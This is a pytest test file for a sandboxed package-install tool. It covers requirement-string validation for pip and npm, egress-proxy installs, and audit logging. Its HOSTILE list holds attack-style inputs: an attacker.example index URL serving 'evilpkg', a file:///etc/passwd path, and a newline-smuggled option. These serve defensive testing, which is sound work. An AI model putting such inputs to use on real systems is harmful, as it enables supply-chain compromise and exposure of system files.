"""install_package: the requirement grammar (hypothesis), refusals, and a real install from
the package registry through the egress proxy, inside a sandbox."""

from __future__ import annotations

import json
import shutil
import socket
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from mcp import Client

from bastion.packages import check_requirement
from bastion.safety.errors import InvalidRequest
from tests.helpers import call, create

HOSTILE = [
    "--index-url http://attacker.example/simple evilpkg",
    "--index-url=http://attacker.example/simple",
    "-e .",
    "-r requirements.txt",
    "--pre requests",
    "requests --extra-index-url http://x",
    "git+https://github.com/psf/requests",
    "https://example.com/pkg-1.0.tar.gz",
    "./local-package",
    "/tmp/pkg.whl",
    "pkg @ https://example.com/pkg.whl",
    "requests; python_version < '3'",
    "requests\n--index-url http://x",
    "file:///etc/passwd",
    "",
    "x" * 300,
]


@pytest.mark.parametrize("text", HOSTILE)
def test_anything_but_a_requirement_is_refused(text: str) -> None:
    with pytest.raises(InvalidRequest):
        check_requirement(text, "pip")


@pytest.mark.parametrize("text", ["requests", "requests[socks]>=2.31,<3", "tomli-w==1.0.0", "zope.interface~=6.0"])
def test_plain_requirements_pass(text: str) -> None:
    assert check_requirement(text, "pip") == text


@pytest.mark.parametrize("text", ["lodash", "lodash@^4.17.21", "@types/node@20", "left-pad"])
def test_plain_npm_specs_pass(text: str) -> None:
    assert check_requirement(text, "npm") == text


@pytest.mark.parametrize("text", ["git+https://x/y.git", "file:../x", "npm:lodash", "../x", "-g lodash", "a b"])
def test_npm_refuses_urls_paths_aliases_and_options(text: str) -> None:
    with pytest.raises(InvalidRequest):
        check_requirement(text, "npm")


@given(st.text(max_size=80))
def test_whatever_passes_cannot_carry_an_option_url_or_path(text: str) -> None:
    for manager in ("pip", "npm"):
        try:
            accepted = check_requirement(text, manager)  # type: ignore[arg-type]
        except InvalidRequest:
            continue
        assert not accepted.startswith("-")
        assert not any(token.startswith("-") for token in accepted.split())
        assert ":" not in accepted
        assert "\n" not in accepted
        assert "\x00" not in accepted
        assert ".." not in accepted.split("/")
        if manager == "pip":
            assert "/" not in accepted
            assert "@" not in accepted
            assert ";" not in accepted


def registry_reachable(host: str = "pypi.org") -> bool:
    try:
        socket.create_connection((host, 443), timeout=5).close()
    except OSError:
        return False
    return True


@pytest.mark.anyio
@pytest.mark.bwrap
async def test_hostile_requirements_are_refused_by_the_tool(client: Client) -> None:
    sandbox = await create(client)
    for text in HOSTILE[:6]:
        result = await call(client, "install_package", name=text, sandbox_id=sandbox)
        assert result["code"] == "INVALID_REQUEST", (text, result)
    host = await call(client, "install_package", name="requests", sandbox_id="default")
    assert host["code"] == "POLICY_DENIED"


@pytest.mark.anyio
@pytest.mark.bwrap
@pytest.mark.network
async def test_a_real_install_through_the_proxy_then_import(client: Client, demo_config_path: Path) -> None:
    if not registry_reachable():
        pytest.skip("the package registry (pypi.org:443) is not reachable from this machine")
    sandbox = await create(client)
    before = await call(client, "execute_code", code="import tomli_w", sandbox_id=sandbox)
    assert before["detail"]["error"]["type"] == "ModuleNotFoundError"
    installed = await call(client, "install_package", name="tomli-w", sandbox_id=sandbox)
    assert installed["ok"], installed
    used = await call(client, "execute_code", code="import tomli_w\ntomli_w.dumps({'a': 1})", sandbox_id=sandbox)
    assert used["ok"], used
    assert used["detail"]["value"] == "'a = 1\\n'", used["detail"]
    shell = await call(client, "run_command", command="python -c 'import tomli_w'", sandbox_id=sandbox)
    assert shell["detail"]["exit_status"] == 0
    audit = demo_config_path.parent / "state" / "audit.jsonl"
    records = [json.loads(line) for line in audit.read_text().splitlines()]
    egress = [r for r in records if r.get("event") == "egress" and r["sandbox"] == sandbox]
    assert any(r["domain"] == "pypi.org" and r["decision"] == "allow" for r in egress), egress
    # After the install the registry is out of reach again: through the proxy (403), or without it (no route).
    fresh = await call(client, "execute_code", code=FETCH_PYPI, sandbox_id=sandbox, context="fresh")
    assert "403" in fresh["detail"]["stdout"], fresh["detail"]
    old_context = await call(client, "execute_code", code=FETCH_PYPI, sandbox_id=sandbox)
    assert "reached" not in old_context["detail"]["stdout"]


FETCH_PYPI = (
    "import urllib.request, urllib.error\n"
    "try:\n    urllib.request.urlopen('https://pypi.org/simple/', timeout=10)\n    print('reached')\n"
    "except urllib.error.URLError as exc:\n    print(exc)"
)


@pytest.mark.anyio
@pytest.mark.bwrap
@pytest.mark.network
async def test_a_real_npm_install_then_require(client: Client) -> None:
    if shutil.which("npm") is None:
        pytest.skip("npm is not installed on this machine (make test installs it)")
    if not registry_reachable("registry.npmjs.org"):
        pytest.skip("the npm registry (registry.npmjs.org:443) is not reachable from this machine")
    sandbox = await create(client)
    installed = await call(client, "install_package", name="left-pad@1.3.0", manager="npm", sandbox_id=sandbox)
    assert installed["ok"], installed
    code = "console.log(require('left-pad')('x', 4, '0'))"
    used = await call(client, "execute_code", code=code, language="node", sandbox_id=sandbox)
    assert used["detail"]["stdout"] == "000x\n", used
